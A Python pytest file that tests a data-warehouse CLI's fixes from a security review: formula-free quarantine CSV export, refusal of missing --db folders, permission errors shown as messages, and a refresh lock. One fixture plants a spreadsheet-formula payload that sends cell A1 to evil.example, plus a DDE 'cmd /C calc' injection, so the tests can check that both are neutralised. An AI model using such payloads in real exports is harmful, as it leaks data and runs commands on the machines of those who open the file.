"""Issue 15 (security review) on the command line: formula-free quarantine CSV, --db folders never created,
read-only folders as a message, ingest and score wait for no refresh (they refuse while one holds the lock)."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from app.cli import main
from etl.jobs.refresh import refresh_lock
from tests.etl.ingest import corpus

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def _invoke(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=True)


@pytest.fixture()
def poisoned_db(fixture_db: Path, tmp_path: Path) -> Path:
    db = tmp_path / "w.duckdb"
    shutil.copy(fixture_db, db)
    con = duckdb.connect(str(db))
    con.execute("UPDATE quarantine SET value = ?, reason = ? WHERE row_number = 7", [EVIL, "@SUM(1+1)*cmd|' /C calc'!A0"])
    con.close()
    return db


def test_quarantine_csv_neutralises_formulas(poisoned_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "q.csv"
    r = _invoke("quarantine", "--db", str(poisoned_db), "--csv", str(out))
    assert r.exit_code == 0, r.output
    text = out.read_bytes().decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM" in text
    cells = [c.strip('"') for line in text.splitlines() for c in line.split(",")]
    assert not [c for c in cells if c.startswith(("=", "@"))]


def test_db_under_a_missing_folder_is_refused_not_created(tmp_path: Path) -> None:
    src = tmp_path / "raw"
    corpus.build(src)
    missing = tmp_path / "typo" / "w.duckdb"
    for args in (("ingest", "--source", str(src), "--db", str(missing)),
                 ("refresh", "--source", str(src), "--db", str(missing)),
                 ("quarantine", "--db", str(missing)),
                 ("score", "--db", str(missing))):
        r = _invoke(*args)
        assert r.exit_code != 0 and "does not exist" in r.output, (args, r.output)
        assert not isinstance(r.exception, Exception) or isinstance(r.exception, SystemExit), r.exception
        assert not missing.parent.exists(), args


def test_a_read_only_folder_is_a_message_not_a_traceback(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    src = tmp_path / "raw"
    corpus.build(src)
    ro = tmp_path / "ro"
    ro.mkdir()

    def denied(*_a: object, **_k: object) -> None:  # what a read-only folder does (tests run as root: chmod won't)
        raise PermissionError(13, "Permission denied", str(ro / "w.duckdb"))

    monkeypatch.setattr("etl.ingest.files.ingest_folder", denied)
    r = _invoke("ingest", "--source", str(src), "--db", str(ro / "w.duckdb"))
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit)
    assert f"permission denied on {ro / 'w.duckdb'}" in r.output and "Traceback" not in r.output


def test_ingest_and_score_refuse_while_a_refresh_holds_the_lock(poisoned_db: Path, tmp_path: Path) -> None:
    src = tmp_path / "raw"
    corpus.build(src)
    before = poisoned_db.stat().st_mtime_ns
    lock = refresh_lock(Path(os.path.abspath(poisoned_db))).acquire(0.0, trigger="test")
    try:
        r = _invoke("ingest", "--source", str(src), "--db", str(poisoned_db))
        assert r.exit_code != 0 and "another refresh is running" in r.output, r.output
        r = _invoke("score", "--db", str(poisoned_db))
        assert r.exit_code != 0 and "another refresh is running" in r.output, r.output
    finally:
        lock.release()
    assert poisoned_db.stat().st_mtime_ns == before  # the live warehouse was not written
